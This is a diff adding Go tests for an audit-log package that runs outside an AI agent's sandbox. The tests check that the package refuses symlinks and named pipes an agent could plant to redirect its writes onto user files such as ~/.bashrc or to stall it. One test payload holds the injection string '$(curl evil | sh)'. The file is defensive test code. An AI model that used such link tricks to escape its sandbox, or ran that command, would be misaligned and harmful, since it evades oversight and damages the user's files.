@@ -1,0 +1,212 @@
+//go:build unix
+
+package audit
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+)
+
+// An agent that can write the audit directory (Claude Code's sandbox lets
+// Bash append to it, for git commit) puts a link or a FIFO where DES
+// writes next. DES, which runs outside the sandbox, must neither write
+// where the link points nor wait on the FIFO.
+
+var linkDay = time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC)
+
+// victim is a file outside the project, as ~/.bashrc would be.
+func victim(t *testing.T) (path, content string) {
+	t.Helper()
+	path = filepath.Join(t.TempDir(), "bashrc")
+	content = "export PATH=$HOME/bin:$PATH\n" + strings.Repeat("# the user's own lines\n", 40)
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return path, content
+}
+
+func wantUnchanged(t *testing.T, path, content string) {
+	t.Helper()
+	got, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("%s: %v", path, err)
+	}
+	if string(got) != content {
+		t.Errorf("DES wrote to %s through a link:\n%q", path, got)
+	}
+}
+
+// appendWithin appends one entry with a deadline: a FIFO must not hold it.
+func appendWithin(t *testing.T, l *Log) error {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+	done := make(chan error, 1)
+	go func() { done <- l.Append(ctx, hookError(map[string]any{"error": "$(curl evil | sh)"})) }()
+	select {
+	case err := <-done:
+		return err
+	case <-time.After(10 * time.Second):
+		t.Fatal("Append waited on a FIFO")
+		return nil
+	}
+}
+
+func TestAppendWritesThroughNoLink(t *testing.T) {
+	for _, tc := range []struct {
+		name string
+		at   string // the name in the log directory the agent replaces
+		ok   bool   // whether the append still succeeds (the head record is only a cache)
+	}{
+		{"head record", HeadFile, true},
+		{"day file", FileName(linkDay), false},
+		{"lock", lockName, false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			root := t.TempDir()
+			dir := filepath.Join(root, ".des", "audit")
+			l := mustOpen(t, dir, WithRoot(root), fixedClock(linkDay))
+			if err := appendWithin(t, l); err != nil {
+				t.Fatal(err)
+			}
+			path, content := victim(t)
+			os.Remove(filepath.Join(dir, tc.at))
+			if err := os.Symlink(path, filepath.Join(dir, tc.at)); err != nil {
+				t.Fatal(err)
+			}
+			err := appendWithin(t, l)
+			wantUnchanged(t, path, content)
+			if tc.ok && err != nil {
+				t.Fatalf("append with a link at %s: %v", tc.at, err)
+			}
+			if !tc.ok && (err == nil || !strings.Contains(err.Error(), "remove it")) {
+				t.Fatalf("append with a link at %s: %v, want an error that says to remove it", tc.at, err)
+			}
+			if tc.ok {
+				if fi, err := os.Lstat(filepath.Join(dir, tc.at)); err != nil || !fi.Mode().IsRegular() {
+					t.Errorf("%s after the append: %v %v, want DES's own file again", tc.at, fi, err)
+				}
+				if rep, err := Verify(context.Background(), dir); err != nil || !rep.Intact() || rep.LastSeq != 2 {
+					t.Errorf("trail after the append: %+v %v", rep, err)
+				}
+			}
+		})
+	}
+}
+
+// A link from the head record to a day file stays inside the directory,
+// but rewriting the record through it would cut the day file.
+func TestAppendHeadLinkedToDayFile(t *testing.T) {
+	root := t.TempDir()
+	dir := filepath.Join(root, ".des", "audit")
+	l := mustOpen(t, dir, WithRoot(root), fixedClock(linkDay))
+	for range 3 {
+		if err := appendWithin(t, l); err != nil {
+			t.Fatal(err)
+		}
+	}
+	os.Remove(filepath.Join(dir, HeadFile))
+	if err := os.Symlink(FileName(linkDay), filepath.Join(dir, HeadFile)); err != nil {
+		t.Fatal(err)
+	}
+	if err := appendWithin(t, l); err != nil {
+		t.Fatal(err)
+	}
+	if rep, err := Verify(context.Background(), dir); err != nil || !rep.Intact() || rep.LastSeq != 4 {
+		t.Errorf("trail after the append: %+v %v", rep, err)
+	}
+}
+
+func TestAppendRefusesLinkedDirectory(t *testing.T) {
+	for _, at := range []string{".des", ".des/audit"} {
+		t.Run(at, func(t *testing.T) {
+			root := t.TempDir()
+			elsewhere := t.TempDir() // the agent's choice: ~/.config/autostart, say
+			if err := os.MkdirAll(filepath.Join(root, filepath.Dir(at)), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.Symlink(elsewhere, filepath.Join(root, at)); err != nil {
+				t.Fatal(err)
+			}
+			l := mustOpen(t, filepath.Join(root, ".des", "audit"), WithRoot(root), fixedClock(linkDay))
+			err := appendWithin(t, l)
+			if err == nil || !strings.Contains(err.Error(), "remove it") {
+				t.Errorf("append through a link at %s: %v, want an error that says to remove it", at, err)
+			}
+			var found []string
+			filepath.Walk(elsewhere, func(p string, fi os.FileInfo, err error) error {
+				if p != elsewhere {
+					found = append(found, p)
+				}
+				return nil
+			})
+			if len(found) > 0 {
+				t.Errorf("DES created %v through the link at %s", found, at)
+			}
+		})
+	}
+}
+
+func TestAppendWaitsOnNoFIFO(t *testing.T) {
+	for _, tc := range []struct {
+		at string
+		ok bool
+	}{{HeadFile, true}, {FileName(linkDay), false}} {
+		t.Run(tc.at, func(t *testing.T) {
+			root := t.TempDir()
+			dir := filepath.Join(root, ".des", "audit")
+			l := mustOpen(t, dir, WithRoot(root), fixedClock(linkDay))
+			if err := appendWithin(t, l); err != nil {
+				t.Fatal(err)
+			}
+			os.Remove(filepath.Join(dir, tc.at))
+			if err := syscall.Mkfifo(filepath.Join(dir, tc.at), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			err := appendWithin(t, l)
+			if tc.ok != (err == nil) {
+				t.Errorf("append with a FIFO at %s: %v", tc.at, err)
+			}
+			if err != nil && !strings.Contains(err.Error(), "named pipe") {
+				t.Errorf("append with a FIFO at %s: %v, want an error naming it", tc.at, err)
+			}
+		})
+	}
+}
+
+// Retention writes too: an archive name linked to the user's file, or the
+// archive directory linked out of the trail, must not be written through.
+func TestArchiveWritesThroughNoLink(t *testing.T) {
+	for _, at := range []string{"archive file", "archive directory"} {
+		t.Run(at, func(t *testing.T) {
+			dir := dailyTrail(t, 2) // 03-01, 03-02
+			path, content := victim(t)
+			link, target := filepath.Join(dir, ArchiveDir, "audit-2026-03-01.log.gz"), path
+			if at == "archive directory" {
+				link, target = filepath.Join(dir, ArchiveDir), filepath.Dir(path)
+			} else if err := os.MkdirAll(filepath.Dir(link), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.Symlink(target, link); err != nil {
+				t.Fatal(err)
+			}
+			now := retDay.AddDate(0, 0, 30)
+			l := mustOpen(t, dir, WithRetention(3), fixedClock(now))
+			if _, err := l.Archive(context.Background(), now); err == nil {
+				t.Error("Archive through a link succeeded")
+			}
+			wantUnchanged(t, path, content)
+			if entries, _ := os.ReadDir(filepath.Dir(path)); len(entries) != 1 {
+				t.Errorf("files beside the user's: %v", entries)
+			}
+			if _, err := os.Stat(filepath.Join(dir, "audit-2026-03-01.log")); err != nil {
+				t.Errorf("the day file was not kept: %v", err)
+			}
+		})
+	}
+}
